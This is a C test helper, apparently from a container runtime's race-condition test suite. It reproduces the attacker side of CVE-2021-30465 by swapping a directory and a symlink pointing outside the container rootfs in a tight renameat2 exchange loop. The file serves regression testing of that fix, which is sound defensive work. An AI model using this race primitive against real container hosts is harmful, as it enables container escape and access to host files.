/* swapper A B [SECONDS]: the attacker of CVE-2021-30465 for the tests (races.bats).
 *
 * Exchanges the paths A and B (renameat2 RENAME_EXCHANGE) in a tight loop, so that A is
 * alternately what it was and what B was (a real directory and a symlink pointing outside the
 * rootfs), until SIGTERM or SIGINT, or for SECONDS when given.  On the way out it exchanges them
 * once more when the count is odd, so that A and B are left as they were found, then prints
 * "swaps N" (N: the exchanges made, that last one not counted) on stdout and exits 0; any failed
 * exchange is a message on stderr and exit 1.  Compiled on demand by helpers.bash (build_helper
 * swapper). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t g_stop;

static void on_signal(int sig) {
    (void)sig;
    g_stop = 1;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int exchange(const char *a, const char *b) {
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
        return 0;
    fprintf(stderr, "swapper: renameat2(%s, %s, RENAME_EXCHANGE): %s\n", a, b, strerror(errno));
    return -1;
}

int main(int argc, char **argv) {
    if (argc < 3 || argc > 4) {
        fprintf(stderr, "usage: swapper A B [SECONDS]\n");
        return 2;
    }
    const char *a = argv[1], *b = argv[2];
    double seconds = argc == 4 ? strtod(argv[3], NULL) : 0;
    struct sigaction sa = {.sa_handler = on_signal};
    sigemptyset(&sa.sa_mask);
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);

    double end = seconds > 0 ? now() + seconds : 0;
    unsigned long long swaps = 0;
    int rc = 0;
    while (!g_stop) {
        if (exchange(a, b) < 0) {
            rc = 1;
            break;
        }
        swaps++;
        /* the clock only now and then: the loop is the race, it must stay tight */
        if (end > 0 && (swaps & 1023) == 0 && now() >= end)
            break;
    }
    if (swaps % 2 && exchange(a, b) < 0)
        rc = 1;
    printf("swaps %llu\n", swaps);
    return rc;
}
